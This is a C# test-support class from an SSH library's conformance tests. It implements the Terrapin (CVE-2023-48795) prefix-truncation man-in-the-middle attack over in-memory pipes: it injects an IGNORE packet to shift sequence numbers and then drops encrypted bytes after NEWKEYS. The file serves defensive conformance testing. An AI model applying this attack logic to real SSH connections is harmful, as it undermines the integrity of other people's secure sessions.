using System.Buffers;
using System.Buffers.Binary;
using System.IO.Pipelines;
using SshGate.Ssh.Tests.Support;
using SshGate.Ssh.Wire;

namespace SshGate.Ssh.Tests.Conformance;

/// <summary>
/// The man in the middle of CVE-2023-48795, in one direction of a link: he adds an IGNORE to the plain text, which moves the
/// receiver's sequence number on, and then cuts as many packets from the front of the encrypted text.
/// </summary>
/// <param name="point">Where the IGNORE goes.</param>
/// <param name="cut">The bytes to cut behind NEWKEYS.</param>
internal sealed class PrefixTruncation(TamperingPoint point, int cut)
{
    // uint32 length, byte padding length, byte 2, string "", seven bytes of padding.
    private static readonly byte[] Ignore = [0, 0, 0, 12, 6, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];

    /// <summary>What was cut; less than asked for if the link ended before.</summary>
    public int Cut { get; private set; }

    /// <summary>A link whose two ends do not meet: all passes through here.</summary>
    /// <param name="toClient">Whether the attack is on the server's packets or on the client's.</param>
    public (DuplexPipe Client, DuplexPipe Server) Connect(bool toClient)
    {
        var (client, clientEnd) = DuplexPipe.CreatePair();
        var (serverEnd, server) = DuplexPipe.CreatePair();
        _ = PumpAsync(clientEnd.Input, serverEnd.Output, !toClient);
        _ = PumpAsync(serverEnd.Input, clientEnd.Output, toClient);
        return (client, server);
    }

    private async Task PumpAsync(PipeReader input, PipeWriter output, bool attacks)
    {
        try
        {
            if (attacks)
            {
                await AttackAsync(input, output);
            }

            await input.CopyToAsync(output);
        }
        finally
        {
            await input.CompleteAsync();
            await output.CompleteAsync();
        }
    }

    private async Task AttackAsync(PipeReader input, PipeWriter output)
    {
        await output.WriteAsync(await TakeAsync(input, text => text.PositionOf((byte)'\n') is { } end ? text.GetPosition(1, end) : null));
        while (true)
        {
            var packet = await TakeAsync(input, End);
            if (packet.Length == 0)
            {
                return;
            }

            var message = (MessageId)packet[5];
            if (message == (point == TamperingPoint.BeforeKexInit ? MessageId.KexInit : MessageId.NewKeys))
            {
                await output.WriteAsync(Ignore);
            }

            await output.WriteAsync(packet);
            if (message == MessageId.NewKeys)
            {
                Cut = (await TakeAsync(input, text => text.Length >= cut ? text.GetPosition(cut) : null)).Length;
                return;
            }
        }
    }

    private static SequencePosition? End(ReadOnlySequence<byte> text)
    {
        var length = new byte[4];
        if (text.Length < length.Length)
        {
            return null;
        }

        text.Slice(0, length.Length).CopyTo(length);
        var size = length.Length + BinaryPrimitives.ReadInt32BigEndian(length);
        return text.Length >= size ? text.GetPosition(size) : null;
    }

    /// <summary>The bytes up to the place that is looked for; none if the link ends before.</summary>
    private static async Task<byte[]> TakeAsync(PipeReader input, Func<ReadOnlySequence<byte>, SequencePosition?> find)
    {
        while (true)
        {
            var result = await input.ReadAsync();
            if (find(result.Buffer) is { } end)
            {
                var bytes = result.Buffer.Slice(0, end).ToArray();
                input.AdvanceTo(end);
                return bytes;
            }

            input.AdvanceTo(result.Buffer.Start, result.Buffer.End);
            if (result.IsCompleted)
            {
                return [];
            }
        }
    }
}
